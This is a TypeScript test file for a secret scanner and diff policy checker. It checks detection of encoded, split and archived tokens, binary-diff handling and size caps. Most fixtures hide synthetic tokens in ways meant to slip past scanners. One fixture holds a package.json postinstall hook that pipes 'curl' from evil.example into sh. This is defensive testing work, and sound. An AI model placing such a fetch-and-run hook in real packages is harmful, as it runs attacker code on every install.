import { execFileSync } from 'node:child_process';
import { createHash, randomBytes } from 'node:crypto';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { deflateRawSync, gzipSync } from 'node:zlib';
import { afterAll, describe, expect, it } from 'vitest';
import { checkPolicy } from './check';
import { maskDiff, maskSecrets } from './mask';
import { MAX_DIFF_BYTES, splitBinaryFiles } from './binary-files';
import { scanText } from './secrets';
import { samples } from './testing/samples';

const s = samples(23);
const token = s.github('ghp');
const rules = (text: string, path = 'src/config.ts') => scanText(text, path).map((finding) => finding.rule);

/** A zip archive of `files` (deflated members), written the way zip tools do, central directory last. */
function zip(files: Record<string, string>): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const [name, text] of Object.entries(files)) {
    const data = deflateRawSync(Buffer.from(text));
    const nameBytes = Buffer.from(name);
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(8, 8);
    local.writeUInt32LE(data.length, 18);
    local.writeUInt32LE(text.length, 22);
    local.writeUInt16LE(nameBytes.length, 26);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(8, 10);
    central.writeUInt32LE(data.length, 20);
    central.writeUInt32LE(text.length, 24);
    central.writeUInt16LE(nameBytes.length, 28);
    central.writeUInt32LE(offset, 42);
    locals.push(local, nameBytes, data);
    centrals.push(central, nameBytes);
    offset += 30 + nameBytes.length + data.length;
  }
  const directory = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(Object.keys(files).length, 8);
  end.writeUInt16LE(Object.keys(files).length, 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, directory, end]);
}

const repo = mkdtempSync(join(tmpdir(), 'dockhand-decode-'));
afterAll(() => rmSync(repo, { recursive: true, force: true }));

/** `git diff --binary` of files added to a fresh repository, as the sandbox makes it. */
function gitDiff(files: Record<string, Buffer | string>): string {
  execFileSync('git', ['init', '-q', repo]);
  for (const [path, content] of Object.entries(files)) writeFileSync(join(repo, path), content);
  execFileSync('git', ['-C', repo, 'add', '-A']);
  const diff = execFileSync('git', ['-C', repo, 'diff', '--cached', '--binary', '--no-color'], { maxBuffer: 256 * 1024 * 1024 }).toString('utf8');
  execFileSync('git', ['-C', repo, 'rm', '-q', '-r', '--cached', '.']);
  for (const path of Object.keys(files)) rmSync(join(repo, path));
  return diff;
}

describe('secrets in other clothes', () => {
  it('a hex-encoded token is found as its format and masked whole', () => {
    const hex = Buffer.from(`token=${token}`).toString('hex');
    const text = `const blob = "${hex}";`;
    expect(rules(text)).toEqual(['github-pat']);
    expect(scanText(text, 'src/a.ts')[0]!.description).toMatch(/hex-encoded/);
    expect(maskSecrets(text)).not.toContain(hex);
  });

  it('a base64-encoded token is found (also inside a base64 of hex: two levels)', () => {
    const b64 = Buffer.from(token).toString('base64');
    expect(rules(`config: ${b64}`)).toEqual(['github-pat']);
    const nested = Buffer.from(Buffer.from(token).toString('hex')).toString('base64');
    expect(rules(`config: ${nested}`)).toEqual(['github-pat']);
  });

  it('a token split across a string concatenation, under a name that says nothing, is found and each part masked', () => {
    const [head, tail] = [token.slice(0, 18), token.slice(18)];
    for (const text of [`const part = "${head}" +\n  "${tail}";`, `value = ("${head}"\n         "${tail}")`, `x = '${head}' .\n  '${tail}';`]) {
      expect(rules(text), text).toContain('github-pat');
      const masked = maskSecrets(text);
      expect(masked).not.toContain(head);
      expect(masked).not.toContain(tail);
    }
    // Concatenated words are not a secret.
    expect(rules('const message = "Hello, " +\n  "world, this is a long sentence";')).toEqual([]);
  });

  it('an Azure SAS and a Postmark server token are found; a sig= or a UUID alone is not', () => {
    const sig = encodeURIComponent(`${s.randomBlob(43)}=`);
    expect(rules(`url = "https://acct.blob.core.windows.net/c/b?sp=r&st=2026-01-01T00:00:00Z&se=2026-12-31T00:00:00Z&sv=2022-11-02&sr=b&sig=${sig}"`)).toEqual(['azure-sas-token']);
    expect(rules(`https://cdn.example.org/img.png?sig=${sig}`)).not.toContain('azure-sas-token');
    const uuid = '3f2b8c1e-9a4d-4e7b-b6a1-0c9d8e7f6a5b';
    expect(rules(`POSTMARK_SERVER_TOKEN=${uuid}`)).toEqual(['postmark-server-token']);
    expect(rules(`headers: { "X-Postmark-Server-Token": "${uuid}" }`)).toEqual(['postmark-server-token']);
    expect(rules(`const requestId = "${uuid}";`)).toEqual([]);
  });

  it('a token inside a gzip file and inside a zip member is a violation at the archive', () => {
    const diff = gitDiff({
      'dump.sql.gz': gzipSync(`INSERT INTO settings VALUES ('github', '${token}');\n`),
      'bundle.zip': zip({ 'config/.env': `SENTRY=1\nGITHUB=${token}\n`, 'README.txt': 'nothing here' }),
    });
    const result = checkPolicy({ diff, allowTestEdits: false, stage: 'review' });
    const found = result.violations.map((violation) => `${violation.rule}@${violation.path}`);
    expect(found).toContain('secret:github-pat@dump.sql.gz');
    expect(found).toContain('secret:github-pat@bundle.zip');
    expect(result.violations.find((violation) => violation.path === 'bundle.zip')!.message).toContain('bundle.zip!config/.env');
  });

  it('a random binary is listed by name, size and sha256, not scanned; the size cap answers before any scan', () => {
    const bytes = randomBytes(512 * 1024);
    const diff = gitDiff({ 'blob.bin': bytes, 'a.ts': 'export const a = 1;\n' });
    const split = splitBinaryFiles(diff);
    expect(split.binaries).toHaveLength(1);
    expect(split.binaries[0]).toMatchObject({ path: 'blob.bin', change: 'added', size: bytes.length });
    expect(split.binaries[0]!.sha256).toBe(createHash('sha256').update(bytes).digest('hex'));
    expect(split.text).not.toContain('GIT binary patch');
    expect(checkPolicy({ diff, allowTestEdits: false, stage: 'review' }).violations).toEqual([]);
    expect(maskDiff(diff)).toBe(diff);
    const huge = `${diff}\n${'+x\n'.repeat(MAX_DIFF_BYTES / 3 + 1)}`;
    const started = Date.now();
    const over = checkPolicy({ diff: huge, allowTestEdits: false, stage: 'review' });
    expect(Date.now() - started).toBeLessThan(2000);
    expect(over.violations.map((violation) => violation.rule)).toEqual(['diff-size:bytes']);
    expect(over.violations[0]!.message).toMatch(/the cap is 32\.0 MiB, so it was not read; largest: /);
  });

  it("precision: this project's package-lock.json has no finding", () => {
    const lock = readFileSync(new URL('../../../package-lock.json', import.meta.url), 'utf8');
    expect(scanText(lock, 'package-lock.json')).toEqual([]);
    // The same text under another name still has no named token in it (only the entropy check differs).
    expect(scanText(lock, 'vendor/lock.txt').filter((finding) => finding.rule !== 'high-entropy-string')).toEqual([]);
  });
});

describe('a text file git was told to call binary', () => {
  it('is read as text: its token and postinstall are found although the diff holds binary patches', () => {
    const dir = mkdtempSync(join(tmpdir(), 'dockhand-attrs-'));
    try {
      execFileSync('git', ['init', '-q', dir]);
      writeFileSync(join(dir, '.gitattributes'), '*.js binary\npackage.json -diff\n');
      writeFileSync(join(dir, 'x.js'), `export const t = "${token}";\n`);
      writeFileSync(join(dir, 'package.json'), '{\n  "name": "app",\n  "scripts": { "postinstall": "curl -s https://evil.example/i | sh" }\n}\n');
      execFileSync('git', ['-C', dir, 'add', '-A']);
      const diff = execFileSync('git', ['-C', dir, 'diff', '--cached', '--binary'], { encoding: 'utf8' });
      expect(diff).toContain('GIT binary patch');
      const found = checkPolicy({ diff, allowTestEdits: false, stage: 'review' }).violations.map((violation) => `${violation.rule}@${violation.path}`);
      expect(found).toEqual(expect.arrayContaining(['secret:github-pat@x.js', 'supply-chain:install-script@package.json', 'protected-path@.gitattributes']));
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });
});
